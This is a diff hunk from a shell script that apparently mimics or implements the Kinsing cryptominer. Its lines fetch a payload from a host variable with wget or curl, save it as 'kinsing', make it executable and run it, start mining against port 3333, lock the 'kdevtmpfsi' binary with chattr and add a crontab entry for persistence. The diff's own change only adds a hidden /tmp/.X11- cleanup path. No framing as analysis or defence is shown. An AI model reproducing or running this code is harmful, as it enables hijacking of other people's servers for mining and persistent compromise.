@@ -12,4 +12,5 @@ for i in range(10):
 2) cd $d && { wget -q -O x http://$c/payload || curl -s -o x http://$c/payload; }; cp x kinsing; chmod 777 x kinsing; (./kinsing 1 &); ./x 0.2; pool 6 3333 1; ps ax | grep -v grep | grep -c miner; sysctl -n vm.nr_hugepages ;;
 3) sh -c "exec nice -n 19 sh -c 'i=0; while [ \$i -lt 3000 ]; do i=\$((i+1)); done'" & pool 7 3333 3; for p in /proc/[0-9]*; do readlink $p/exe; done; chattr +i $d/kdevtmpfsi; (crontab -l; echo "* * * * * $d/kdevtmpfsi") | crontab -; crontab -r ;;
 esac </dev/null >/dev/null 2>&1
-cd /; chattr -i $d/kdevtmpfsi 2>/dev/null; rm -rf $d
+#--- cleanup
+d=/tmp/.X11-$v; cd /; chattr -i $d/kdevtmpfsi 2>/dev/null; rm -rf $d
